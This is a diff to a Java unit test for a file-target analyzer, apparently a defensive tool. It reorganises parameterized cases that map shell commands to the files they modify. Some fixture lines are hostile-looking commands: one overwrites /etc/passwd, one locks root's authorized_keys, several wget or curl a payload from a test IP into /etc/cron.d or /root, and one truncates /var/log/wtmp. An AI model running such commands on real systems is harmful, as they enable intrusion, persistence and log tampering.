@@ -59,6 +59,26 @@ class FileTargetAnalyzerTest {
           touch --reference=/bin/ls x ~ /root/x
           sudo -u erin touch x ~ /root/x
           dd if=/tmp/k of=/etc/passwd ~ /etc/passwd
+          chattr +i /root/.ssh/authorized_keys ~ /root/.ssh/authorized_keys
+          chmod 600 x ~ /root/x
+          curl -fsSL http://192.0.2.7/k -o /root/k ~ /root/k
+          curl -O http://192.0.2.7/k ~ /root/k
+          curl http://192.0.2.7/k ~ ''
+          wget -q http://192.0.2.7/k ~ /root/k
+          wget -P /etc/cron.d http://192.0.2.7/k ~ /etc/cron.d/k
+          wget -O - http://192.0.2.7/k ~ ''
+          truncate -s 0 /var/log/wtmp ~ /var/log/wtmp
+          """)
+  void theFilesThatAToolChangesAreRead(String line, String expected) {
+    List<String> wanted = expected.isEmpty() ? List.of() : List.of(expected.split(","));
+    assertThat(targets(List.of(line.split(" ")))).isEqualTo(wanted);
+  }
+
+  @ParameterizedTest
+  @CsvSource(
+      delimiter = '~',
+      textBlock =
+          """
           sed -i s/a/b/ /etc/group ~ /etc/group
           sed -i.bak -e s/a/b/ /etc/group ~ /etc/group
           sed s/a/b/ /etc/group ~ ''
@@ -75,17 +95,8 @@ class FileTargetAnalyzerTest {
           perl -Ilib -ne print /etc/group ~ ''
           ruby -rdigest -ne p /etc/group ~ ''
           ruby -i -pe 1 /etc/group ~ /etc/group
-          chattr +i /root/.ssh/authorized_keys ~ /root/.ssh/authorized_keys
-          chmod 600 x ~ /root/x
-          curl -fsSL http://192.0.2.7/k -o /root/k ~ /root/k
-          curl -O http://192.0.2.7/k ~ /root/k
-          curl http://192.0.2.7/k ~ ''
-          wget -q http://192.0.2.7/k ~ /root/k
-          wget -P /etc/cron.d http://192.0.2.7/k ~ /etc/cron.d/k
-          wget -O - http://192.0.2.7/k ~ ''
-          truncate -s 0 /var/log/wtmp ~ /var/log/wtmp
           """)
-  void theFilesThatAToolChangesAreRead(String line, String expected) {
+  void theFilesThatAnEditorChangesInPlaceAreRead(String line, String expected) {
     List<String> wanted = expected.isEmpty() ? List.of() : List.of(expected.split(","));
     assertThat(targets(List.of(line.split(" ")))).isEqualTo(wanted);
   }
